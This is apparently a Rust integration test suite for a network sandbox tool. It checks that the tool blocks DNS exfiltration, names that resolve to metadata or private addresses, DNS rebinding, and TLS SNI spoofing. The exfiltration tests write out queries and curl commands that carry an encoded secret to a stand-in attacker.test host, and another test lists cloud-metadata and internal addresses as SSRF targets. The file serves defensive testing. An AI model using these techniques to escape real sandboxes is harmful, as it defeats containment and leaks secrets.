//! Ways round a list of names, each of which works where there is no wall: carrying data out in questions for names,
//! names that lead to where nobody should get, hellos that name somebody else. Needs root, and machines of their own.

mod common;

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::process::{Command, Stdio};

use common::site::{SITE, Server, Site, add_address, apart, refusals};
use common::stockade::{directory, text, told};

const NAME: &str = "api.example.test";
const ALLOW: &str = "'api.example.test:443,80'";
/// The authority for names that this host asks.
const AUTHORITY: &str = "127.77.0.53";

/// Lets this host, whose mounts are the test's own, ask the test's authority for names: in an /etc of its own.
fn ask(authority: &str) {
    let script = "cp -a /etc /tmp/etc && mount --bind /tmp/etc /etc && rm -f /etc/resolv.conf \
        && printf 'nameserver %s\\noptions timeout:10 attempts:3\\n' \"$0\" >/etc/resolv.conf \
        && echo 127.0.0.1 localhost >/etc/hosts && chmod 644 /etc/resolv.conf /etc/hosts";
    let status = Command::new("sh").args(["-c", script, authority]).status().expect("sh");
    assert!(status.success());
}

fn on_the_host(script: &str) -> (bool, String) {
    let output = Command::new("sh").args(["-c", script]).stdin(Stdio::null()).output().expect("sh");
    (output.status.success(), String::from_utf8_lossy(&output.stdout).into_owned())
}

/// Asks `server` for a record of a name, by hand.
fn asks(server: &str, name: &str, kind: u16) -> String {
    format!(
        "python3 -c 'import socket
q = b\"\\x12\\x34\\x01\\x00\\x00\\x01\" + bytes(6) + b\"\".join(bytes([len(l)]) + l for l in b\"{name}\".split(b\".\"))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(60)
s.connect((\"{server}\", 53))
s.send(q + bytes([0, {high}, {low}, 0, 1]))
a = s.recv(999)
print(a[3] & 15, a[7])'",
        high = kind >> 8,
        low = kind & 255
    )
}

#[test]
fn a_short_name_is_looked_for_in_the_hosts_domains_that_a_rule_has_names_in() {
    apart("a_short_name_is_looked_for_in_the_hosts_domains_that_a_rule_has_names_in", || {
        ask("127.0.0.53");
        let more = "echo 'search home.example example.test' >>/etc/resolv.conf";
        assert!(Command::new("sh").args(["-c", more]).status().expect("sh").success());
        let site = Site::named(&["api.example.test"]);
        let policy = site.policy("'api.example.test:80'", &["api.example.test"]);
        let script = "grep search /etc/resolv.conf && curl -sS --fail http://api/hello";
        let (output, _) = site.run(&policy, &[], script);
        assert_eq!(String::from_utf8_lossy(&output.stdout), "search example.test\nhello from outside\n");
    });
}

#[test]
fn nothing_leaves_in_questions_for_names() {
    apart("nothing_leaves_in_questions_for_names", || {
        let authority = Server::start(&["dns", AUTHORITY, &format!("{NAME}={SITE}")]);
        ask(AUTHORITY);
        let site = Site::named(&[NAME]);
        let policy = site.policy(ALLOW, &[]);
        // What the site asked for itself.
        authority.heard();
        let secret = "c2vjcmv0";
        let questions = [
            format!("getent hosts {secret}.attacker.test"),
            format!("getent hosts {secret}.{NAME}"),
            format!("python3 -c 'import socket; socket.gethostbyname(\"{secret}.{NAME}\")'"),
            asks("127.0.0.1", &format!("{secret}.attacker.test"), 16),
            asks(AUTHORITY, &format!("{secret}.attacker.test"), 1),
            asks("9.9.9.9", &format!("{secret}.{NAME}"), 28),
            format!("curl -sS https://{secret}.{NAME}/"),
        ];
        let open = on_the_host(&format!(
            "getent hosts {secret}.attacker.test; {}",
            asks(AUTHORITY, &format!("{secret}.{NAME}"), 16)
        ));
        let heard = authority.heard();
        assert!(
            heard.len() >= 2 && heard.iter().all(|line| line.contains(secret)),
            "the way is open: {heard:?} {open:?}"
        );
        for question in questions {
            let (output, report) = site.run(&policy, &[], &format!("{question}; exit 0"));
            assert!(output.status.success(), "{}", told(&output));
            assert_eq!(authority.heard(), [""; 0], "{question}");
            let refused = refusals(&report);
            assert!(
                refused.iter().any(|(reason, host)| reason == "name" && host.contains(secret)),
                "{question}: {refused:?}"
            );
        }
        // What is allowed is looked up when it is connected to, and not before.
        site.run(&policy, &[], &format!("getent hosts {NAME}; {}", asks("127.0.0.1", NAME, 16)));
        assert_eq!(authority.heard(), [""; 0], "a question is answered without asking anybody");
    });
}

/// Answers on port 80 of every address of this host.
fn answer_everywhere() {
    let listener = TcpListener::bind("0.0.0.0:80").expect("the port");
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let mut request = BufReader::new(stream.try_clone().expect("a copy")).lines();
            while request.next().is_some_and(|line| line.is_ok_and(|line| !line.is_empty())) {}
            let _ = stream.write_all(b"HTTP/1.0 200 OK\r\n\r\nreached\n");
        }
    });
}

#[test]
fn an_allowed_name_leads_nowhere_that_only_this_host_should_reach() {
    apart("an_allowed_name_leads_nowhere_that_only_this_host_should_reach", || {
        let own = "198.51.100.7";
        let places = [
            "127.0.0.1",
            SITE,
            "169.254.169.254",
            "100.100.100.200",
            "168.63.129.16",
            "10.1.2.3",
            "192.168.7.7",
            "172.16.9.9",
            "0.0.0.0",
            own,
        ];
        let names: Vec<String> =
            places.iter().enumerate().map(|(n, address)| format!("n{n}.example.test={address}")).collect();
        let mut arguments = vec!["dns", AUTHORITY];
        arguments.extend(names.iter().map(String::as_str));
        let _authority = Server::start(&arguments);
        ask(AUTHORITY);
        places
            .iter()
            .filter(|place| !place.starts_with("127.") && **place != "0.0.0.0")
            .for_each(|place| add_address(&format!("{place}/32")));
        answer_everywhere();
        let policies = directory();
        let policy = policies.path().join("site.toml");
        fs::write(&policy, "extends = 'shell'\n[network]\nallow = ['*.example.test:80']\n").expect("written");
        for (n, place) in places.iter().enumerate() {
            let script = format!("curl -sS --max-time 60 http://n{n}.example.test/");
            assert_eq!(on_the_host(&script), (true, "reached\n".into()), "the way to {place} is open");
            let (output, report) = run(&policy, &script);
            assert!(!output.status.success() && output.stdout.is_empty(), "{place}: {}", told(&output));
            let refused = refusals(&report);
            assert!(
                refused
                    .iter()
                    .any(|(reason, host)| reason == "guarded-address" && host.contains(&format!("n{n}."))),
                "{place}: {refused:?}"
            );
        }
        // An address that the policy names is one that its site meant.
        fs::write(&policy, "extends = 'shell'\n[network]\nallow = ['*.example.test:80', '10.1.2.3:80']\n")
            .expect("written");
        let (output, _) = run(&policy, "curl -sS http://n5.example.test/");
        assert_eq!(String::from_utf8_lossy(&output.stdout), "reached\n", "{}", told(&output));
    });
}

fn run(policy: &std::path::Path, script: &str) -> (std::process::Output, serde_json::Value) {
    let around = directory();
    let report = around.path().join("report.json");
    let mut command = Command::new(common::stockade::STOCKADE);
    command.args(["run", "--policy", text(policy), "--report", text(&report), "--", "sh", "-c", script]);
    let output = command.stdin(Stdio::null()).output().expect("stockade");
    let report = fs::read(&report).ok().and_then(|bytes| serde_json::from_slice(&bytes).ok());
    (output, report.unwrap_or_default())
}

#[test]
fn a_name_that_changes_its_address_gets_nobody_in() {
    apart("a_name_that_changes_its_address_gets_nobody_in", || {
        add_address("203.0.113.9/32");
        let authority = Server::start(&["dns", AUTHORITY, &format!("{NAME}={SITE},{SITE},127.0.0.1")]);
        ask(AUTHORITY);
        let site = Site::named(&[NAME]);
        let policy = site.policy(ALLOW, &[]);
        let script = "for n in 1 2 3 4; do curl -sS --fail http://api.example.test/hello; done";
        assert!(on_the_host(script).1.contains("hello"), "the way is open");
        authority.heard();
        let (output, report) = site.run(&policy, &[], script);
        assert_eq!(String::from_utf8_lossy(&output.stdout), "", "{}", told(&output));
        assert!(refusals(&report).iter().any(|(reason, _)| reason == "guarded-address"), "{report}");
        assert!(!authority.heard().is_empty(), "it was looked up, and what came was looked at");
    });
}

#[test]
fn a_hello_names_the_host_that_was_asked_for_or_goes_nowhere() {
    apart("a_hello_names_the_host_that_was_asked_for_or_goes_nowhere", || {
        let site = Site::named(&[NAME, "other.example.test"]);
        let strict = site.policy(ALLOW, &[NAME]);
        let hello = |how: &str, to: &str| {
            format!(
                "printf 'GET /hello HTTP/1.0\\r\\n\\r\\n' | openssl s_client -quiet -ign_eof -CAfile ca.pem {how} \
                 -connect {to}:443 2>/dev/null | grep hello"
            )
        };
        for (how, reason) in [("-servername other.example.test", "sni"), ("-noservername", "sni")] {
            let open = on_the_host(&format!("cd {}; {}", text(site.workspace.path()), hello(how, SITE)));
            assert!(open.0, "the way is open: {how}");
            let (output, report) = site.run(&strict, &[], &hello(how, NAME));
            assert!(output.stdout.is_empty(), "{how}: {}", told(&output));
            assert_eq!(refusals(&report)[0].0, reason, "{how}: {report}");
        }
        let (output, _) = site.run(&strict, &[], &hello("-servername API.example.TEST", NAME));
        assert!(output.status.success(), "a name has no case: {}", told(&output));
        let plain = "printf 'GET /hello HTTP/1.0\\r\\n\\r\\n' | timeout 60 python3 -c 'import socket, sys
s = socket.create_connection((\"api.example.test\", 443)); s.send(sys.stdin.buffer.read()); print(s.recv(9))'";
        let (_, report) = site.run(&strict, &[], plain);
        assert_eq!(refusals(&report)[0].0, "not-tls", "{report}");
        let any = site.policy("{ to = 'api.example.test:443', sni = 'any' }", &[NAME]);
        let (output, _) = site.run(&any, &[], &hello("-servername other.example.test", NAME));
        assert!(output.status.success(), "the policy allows it: {}", told(&output));
    });
}
